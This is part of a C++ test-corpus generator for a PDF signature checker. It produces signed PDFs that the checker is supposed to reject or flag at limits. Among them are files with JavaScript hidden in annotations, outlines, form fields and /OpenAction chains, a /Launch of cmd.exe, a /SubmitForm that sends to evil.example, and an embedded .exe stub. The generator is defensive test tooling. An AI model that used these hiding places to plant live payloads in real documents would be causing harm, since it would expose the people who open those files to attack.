    for (int i = 0; i < 6; ++i) data = deflate(data);
    corpus.add("deep-filter-chain",
               update(g1, {{store, "<< /Certs [" + std::to_string(g1_size) + " 0 R] >>"},
                           {g1_size, stream(" /Filter [" + chain + " ]", data)}},
                      g1_size + 1),
               "limit", "six filters chained on one stream");
  }
  {
    auto objects = Generator::letter_objects();
    for (int i = 0; i < 100'000; ++i) objects.push_back("null");
    corpus.add("objects-100000", g.signed_pdf(objects, g.code(), honest("")), "limit", "100,000 tiny objects");
  }

  // Active content in each place it can hide, under a valid signature.
  const auto scripted = [&](const std::string& name, const std::vector<std::string>& objects, const std::string& why) {
    corpus.add(name, g.signed_pdf(objects, g.code(), honest("")), "refused", why);
  };
  scripted("js-page-aa", Generator::letter_objects(" /AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"),
           "JavaScript in a page's /AA");
  {
    auto objects = Generator::letter_objects(" /Annots [6 0 R]");
    objects.push_back("<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /JavaScript /JS (this.print\\(\\)) >> >>");
    scripted("js-link-annotation", objects, "JavaScript behind a link annotation");
  }
  scripted("js-openaction-next",
           Generator::letter_objects("", " /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >>"),
           "JavaScript at the end of an /OpenAction /Next chain");
  {
    auto objects = Generator::letter_objects("", " /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>");
    objects.push_back("<< /S /GoTo /D [3 0 R /Fit] /Next [7 0 R] >>");
    objects.push_back("<< /S /JavaScript /JS (y) >>");
    // Objects 6 and 7 then come before the signature's own (renumbered by signed_pdf).
    scripted("js-next-indirect", objects, "JavaScript two indirect steps down a /Next chain");
  }
  {
    auto objects = Generator::letter_objects(" /Annots [6 0 R]");
    objects.push_back("<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI ( JavaScript:app.alert\\(1\\)) >> >>");
    scripted("js-uri-link", objects, "a link whose URI is javascript:");
  }
  scripted("launch-openaction", Generator::letter_objects("", " /OpenAction << /S /Launch /F (cmd.exe) >>"),
           "/OpenAction /Launch");
  scripted("js-name-tree",
           Generator::letter_objects("", " /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (z) >>] >> >>"),
           "a document-level JavaScript name tree");
  scripted("import-data", Generator::letter_objects("", " /OpenAction << /S /ImportData /F (data.fdf) >>"),
           "an /ImportData action");
  scripted("submit-form",
           Generator::letter_objects("", " /OpenAction << /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>"),
           "a /SubmitForm action to a URL");
  {
    auto objects = Generator::letter_objects(" /Annots [6 0 R]");
    objects.push_back("<< /Type /Annot /Subtype /RichMedia /Rect [0 0 100 100] >>");
    scripted("rich-media", objects, "a /RichMedia annotation");
  }
  {
    auto objects = Generator::letter_objects("", " /Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>");
    objects.push_back("<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>");
    objects.push_back(stream(" /Type /EmbeddedFile", "MZ"));
    scripted("embedded-file", objects, "an embedded file");
  }
  corpus.add("xfa-form", g.signed_pdf(Generator::letter_objects("", " /NeedsRendering true"), g.code(), honest(""), {},
                                      " /XFA (<xdp:xdp/>)"),
             "refused", "an XFA form");
  {
    auto objects = Generator::letter_objects("", " /Outlines 6 0 R");
    objects.push_back("<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>");
    objects.push_back("<< /Title (Buka) /Parent 6 0 R /A << /S /JavaScript /JS (w) >> >>");
    scripted("js-outline", objects, "JavaScript behind an outline item");
  }
  {
    auto objects = Generator::letter_objects(" /Annots [6 0 R]");
    objects.push_back("<< /Type /Annot /Subtype /Widget /FT /Tx /T (f) /Rect [0 0 100 20] /AA << /K << /S /JavaScript /JS (v) >> >> >>");
    scripted("js-form-field", objects, "JavaScript in a form field's /AA");
  }
}

}  // namespace

int main(int argc, char** argv) {
  std::map<std::string, std::string> args;
  for (int i = 1; i + 1 < argc; i += 2) args[argv[i]] = argv[i + 1];
  if (!args.count("--data") || !args.count("--out")) {
    std::cerr << "usage: hostile_corpus --data DIR --out DIR\n";
    return 2;
  }
  try {
    OpenOptions open;
    open.load_ca_key = true;
    auto instance = Instance::open(args["--data"], open);
    Corpus corpus;
    corpus.folder = args["--out"];
    fs::create_directories(corpus.folder);
    corpus.manifest.open(corpus.folder / "manifest.tsv");
    write_corpus(*instance, corpus);
  } catch (const std::exception& e) {
    std::cerr << "hostile_corpus: " << e.what() << "\n";
    return 1;
  }
  return 0;
}
